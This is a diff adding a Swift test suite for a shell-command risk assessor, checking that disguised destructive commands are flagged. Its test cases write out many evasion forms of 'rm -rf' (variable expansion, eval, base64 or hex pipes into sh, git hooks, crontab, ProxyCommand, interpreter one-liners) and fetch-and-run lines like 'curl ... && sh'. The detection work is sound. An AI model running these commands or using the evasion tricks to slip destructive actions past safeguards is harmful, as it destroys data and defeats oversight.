@@ -1,0 +1,116 @@
+import Platform
+import ShellGrammar
+import Testing
+
+@testable import RiskAssessment
+
+@Suite struct SeenThroughTests {
+  private func verdict(_ command: String) -> RiskVerdict {
+    RiskJudge(language: .english).judge(ShellParser().parse(command))
+  }
+
+  @Test(arguments: [
+    "rm${IFS}-rf${IFS}x", "rm$IFS-rf$IFS/x", "{rm,-rf,x}", "${u:-rm} -rf x", "$(echo rm) -rf x", "`printf rm` -rf x",
+    "c=rm; $c -rf x", "a=r b=m; $a$b -rf x", "c='rm -rf x'; $c", "c='rm -rf x'; eval \"$c\"", "$'\\x72m' -rf x",
+    "/bin/r? -rf x", "a=(rm -rf x); \"${a[@]}\"", "set -- rm -rf x; \"$@\"", "IFS=,; c=rm,-rf,x; $c",
+    "$UNKNOWN -rf x", "for c in rm; do $c -rf x; done", "f() { $1 -rf x; }; f rm",
+  ]) func wordsAreExpandedAsFarAsTheTextTells(command: String) {
+    #expect(verdict(command).level == .danger, "\(command)")
+    #expect(verdict(command).findings.contains { $0.id == "recursive-deletion" }, "\(command)")
+  }
+
+  @Test(arguments: [
+    "alias g=rm; g -rf x", "alias x='rm -rf'; x y", "echo 'rm -rf x' > s; sh s", "printf 'rm -rf x' > s && ./s",
+    "cat > s <<< 'rm -rf x'; chmod +x s; ./s", "echo 'rm -rf x' | tee s; source s", "trap 'rm -rf x' EXIT",
+    "PROMPT_COMMAND='rm -rf x'", "GIT_SSH_COMMAND='rm -rf x' git fetch", "git -c alias.x='!rm -rf x' x",
+    "git config core.pager 'rm -rf x'", "echo '* * * * * rm -rf x' | crontab -", "at now <<< 'rm -rf x'",
+    "echo 'rm -rf x' > .git/hooks/pre-push", "vim -c ':!rm -rf x'", "tar cf a b --checkpoint-action=exec='rm -rf x'",
+    "ssh -o ProxyCommand='rm -rf x' h", "env -S 'rm -rf x'", "make -f - <<< 'x:; rm -rf y'", "gdb -ex 'shell rm -rf x'",
+  ]) func whatIsRunLaterOrElsewhereIsRead(command: String) {
+    #expect(verdict(command).findings.contains { $0.id == "recursive-deletion" }, "\(command)")
+  }
+
+  @Test(arguments: [
+    "echo cm0gLXJmIHgK | base64 -d | sh", "base64 -d <<< cm0gLXJmIHgK | bash", "echo 726d202d72662078 | xxd -r -p | sh",
+    "printf '\\x72\\x6d -rf x' | sh", "echo 'x fr- mr' | rev | sh", "ls | sed 's/^/rm -rf /' | sh",
+    "ls | awk '{print \"rm -rf\", $1}' | sh", "cat <<E | sh\nrm -rf x\nE", "sh <<E\nrm -rf x\nE",
+    "sh <<-E\n\trm -rf x\nE",
+    "bash -s <<< 'rm -rf x'", ". /dev/stdin <<< 'rm -rf x'", "ssh h <<< 'rm -rf x'", "sudo -s <<< 'rm -rf x'",
+    "echo sl -sg y | tr slgy rmfx | sh", "eval \"$(base64 -d <<< cm0gLXJmIHgK)\"",
+  ]) func whatIsFedToAShellIsRead(command: String) {
+    #expect(verdict(command).level == .danger, "\(command)")
+  }
+
+  @Test(arguments: [
+    "python3 -c 'import shutil; shutil.rmtree(\"x\")'", "python3 -c \"import os; os.system('rm -rf x')\"",
+    "python3 -c \"__import__('os').system('rm -rf x')\"", "python3 <<< 'import shutil; shutil.rmtree(\"x\")'",
+    "python3 -c \"import subprocess as s; s.run(['rm', '-rf', 'x'])\"", "perl -e 'system(\"rm -rf x\")'",
+    "perl -e '`rm -rf x`'", "perl -e 'exec \"rm\", \"-rf\", \"x\"'", "ruby -e 'FileUtils.rm_rf(\"x\")'",
+    "node -e 'require(\"fs\").rmSync(\"x\", {recursive: true})'", "php -r 'system(\"rm -rf x\");'",
+    "lua -e 'os.execute(\"rm -rf x\")'", "awk 'BEGIN { system(\"rm -rf x\") }'",
+    "awk '{ print \"rm -rf \" $1 | \"sh\" }' f",
+    "sed '1e rm -rf x' f", "sed 's/.*/rm -rf x/e' f", "osascript -e 'do shell script \"rm -rf x\"'",
+    "expect -c 'spawn rm -rf x'",
+  ]) func programsInOtherLanguagesAreRead(command: String) {
+    #expect(verdict(command).findings.contains { $0.id == "recursive-deletion" }, "\(command)")
+  }
+
+  @Test(arguments: [
+    "python3 -c \"exec(__import__('urllib.request').urlopen('https://x').read())\"",
+    "python3 -c \"import base64; exec(base64.b64decode('cm0='))\"", "perl -MLWP::Simple -e 'eval get(\"https://x\")'",
+    "curl -o i.sh https://x && sh i.sh", "wget https://x/i.sh; ./i.sh", "curl https://x > i && . ./i",
+  ]) func whatIsFetchedOrDecodedAndRunIsDanger(command: String) {
+    #expect(verdict(command).level == .danger, "\(command)")
+  }
+
+  @Test(arguments: [
+    "python3 -c 'print(2**10)'", "python3 -c \"import json,sys; print(json.load(sys.stdin)['a'])\"",
+    "perl -ne 'print if /rm/' f",
+    "ruby -e 'puts 1'", "node -e 'console.log(1)'", "awk '/system/ {print}' f", "awk '{print > \"/dev/stderr\"}' f",
+    "awk '$3 > 10 && /x/ {print $1}' f", "sed 's/e/w/' f", "sed 's/a/b/w /dev/stdout' f", "perl -pe 's/a/b/g' f",
+  ]) func programsThatOnlyPrintAreSafe(command: String) {
+    #expect(verdict(command).level == .safe, "\(command): \(verdict(command).findings.map(\.id))")
+  }
+
+  @Test(arguments: [
+    "perl -pe 's/a/`x`/e' f", "python3 -c 'open(\"f\", \"w\")'", "python3 -c 'import os; os.remove(\"f\")'",
+    "python3 -c 'import socket'", "node -e 'process.binding(1)'", "ruby -e 'eval ARGV[0]'", "perl -i -pe 's/a/b/' f",
+    "php -r 'array_map(\"unlink\", glob(\"*\"));'", "awk '{print > $1}' f", "awk '{print | \"x\"}' f",
+    "python3 -c \"$x\"",
+    "python3 x.py", "awk \"$x\" f", "sed \"$x\" f", "python3 -c 'getattr(x, \"y\")()'",
+  ]) func otherProgramsAreNotSafe(command: String) {
+    #expect(verdict(command).level > .safe, "\(command)")
+  }
+
+  @Test func askingIsNotedWhereTheReaderIsAsked() {
+    for (command, isAsked) in [
+      ("find . -ok rm {} \\;", true), ("find . -exec rm {} \\;", false), ("xargs -p rm", true), ("xargs rm", false),
+    ] {
+      let collector = InvocationCollector(ShellParser().parse(command))
+      #expect(collector.invocations.last?.name == "rm" && collector.invocations.last?.isAsked == isAsked, "\(command)")
+    }
+  }
+
+  @Test(arguments: [
+    ("sh -c 'ls; rm -rf x'", "rm -rf x"), ("ssh h \"sudo rm -rf x\"", "rm -rf x"),
+    ("bash -c \"sh -c 'rm -rf x'\"", "rm -rf x"),
+    ("sh -c 'echo a > f'", "> f"), ("eval rm -rf x", "rm -rf x"),
+  ]) func findingsPointIntoTheText(command: String, part: String) throws {
+    let script = ShellParser().parse(command)
+    let finding = try #require(RiskJudge(language: .english).judge(script).findings.first)
+    #expect(script.text(in: finding.range) == part, "\(command)")
+  }
+
+  @Test func axesAreSaidForEveryCommand() {
+    for (command, reversibility, certainty) in [
+      ("ls", Reversibility.yes, Certainty.certain), ("rm -rf x", .no, .certain), ("./tool", .unknown, .likely),
+      ("$x y", .unknown, .unsure), ("ls 'x", .unknown, .unsure), ("rm -rf x; $y", .no, .unsure),
+    ] {
+      let verdict = verdict(command)
+      #expect(verdict.reversibility == reversibility && verdict.certainty == certainty, "\(command): \(verdict)")
+    }
+    #expect(verdict("echo hi").touches == [])
+    #expect(verdict("curl https://x").touches == [.network])
+    #expect(verdict("sudo systemctl stop x").touches.contains(.privilege))
+  }
+}
